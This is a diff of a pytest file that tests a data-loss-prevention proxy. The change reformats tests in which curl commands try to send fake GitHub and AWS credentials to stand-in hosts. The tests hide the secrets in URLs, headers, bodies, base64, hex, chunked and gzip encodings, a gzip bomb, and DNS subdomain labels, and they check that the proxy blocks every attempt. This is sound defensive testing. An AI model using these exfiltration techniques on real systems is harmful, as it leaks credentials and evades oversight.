@@ -54,12 +54,16 @@ def test_secrets_in_url_header_and_body_are_blocked(
     dlp_env: BottleEnv, tls_upstream: TLSUpstream, scheme: str, tmp_path: Path
 ) -> None:
     w = "-s -o /dev/null -w '%{http_code}\\n' --max-time 10"
-    codes = _curl(dlp_env, f"""
+    codes = _curl(
+        dlp_env,
+        f"""
 curl {w} "{scheme}/q?token={GITHUB_TOKEN}"
 curl {w} -H "X-Debug: {AWS_KEY_ID}" {scheme}/h
 curl {w} --data-binary "config={GITHUB_TOKEN}" {scheme}/b
 curl {w} {scheme}/clean
-""", tmp_path)
+""",
+        tmp_path,
+    )
     assert codes == ["403", "403", "403", "200"], codes
     received = tls_upstream.requests if scheme.startswith("https") else dlp_env.upstream.requests
     assert [r.path for r in received] == ["/clean"]
@@ -70,15 +74,21 @@ curl {w} {scheme}/clean
     assert GITHUB_TOKEN not in text and AWS_KEY_ID not in text
 
 
-def test_planted_host_secret_is_blocked_in_every_encoding(dlp_env: BottleEnv, tmp_path: Path) -> None:
+def test_planted_host_secret_is_blocked_in_every_encoding(
+    dlp_env: BottleEnv, tmp_path: Path
+) -> None:
     b64 = base64.b64encode(PLANTED.encode()).decode()
     hexed = PLANTED.encode().hex()
     w = "-s -o /dev/null -w '%{http_code}\\n' --max-time 10"
-    codes = _curl(dlp_env, f"""
+    codes = _curl(
+        dlp_env,
+        f"""
 curl {w} --data-binary "v={PLANTED}" http://allowed.test/raw
 curl {w} --data-binary "v={b64}" http://allowed.test/b64
 curl {w} "http://allowed.test/hex/{hexed}"
-""", tmp_path)
+""",
+        tmp_path,
+    )
     assert codes == ["403", "403", "403"], codes
     assert dlp_env.upstream.requests == []
 
@@ -94,11 +104,15 @@ def test_secret_split_across_chunks_and_inside_gzip_is_blocked(
     (dlp_env.workspace / "bomb.gz").write_bytes(gzip.compress(b"\0" * (200 * 1024 * 1024)))
     ws = dlp_env.workspace
     w = "-s -o /dev/null -w '%{http_code}\\n' --max-time 20"
-    codes = _curl(dlp_env, f"""
+    codes = _curl(
+        dlp_env,
+        f"""
 curl {w} -H "Transfer-Encoding: chunked" --data-binary @{ws}/big.txt http://allowed.test/chunked
 curl {w} -H "Content-Encoding: gzip" --data-binary @{ws}/body.gz http://allowed.test/gz
 curl {w} -H "Content-Encoding: gzip" --data-binary @{ws}/bomb.gz http://allowed.test/bomb
-""", tmp_path)
+""",
+        tmp_path,
+    )
     assert codes == ["403", "403", "413"], codes
     assert all(r.path not in ("/gz", "/bomb") for r in dlp_env.upstream.requests)
     for r in dlp_env.upstream.requests:  # an incomplete request may have started; never the key
@@ -110,10 +124,14 @@ def test_exfiltration_through_wildcard_host_labels_is_blocked(
 ) -> None:
     label = base64.b32encode(b"the-database-password-is-hunter2!").decode().rstrip("=").lower()
     w = "-s -o /dev/null -w '%{http_code}\\n' --max-time 10"
-    codes = _curl(dlp_env, f"""
+    codes = _curl(
+        dlp_env,
+        f"""
 curl {w} http://{label}.wild.test/
 curl {w} http://a.wild.test/ok
-""", tmp_path)
+""",
+        tmp_path,
+    )
     assert codes == ["403", "200"], codes
 
 
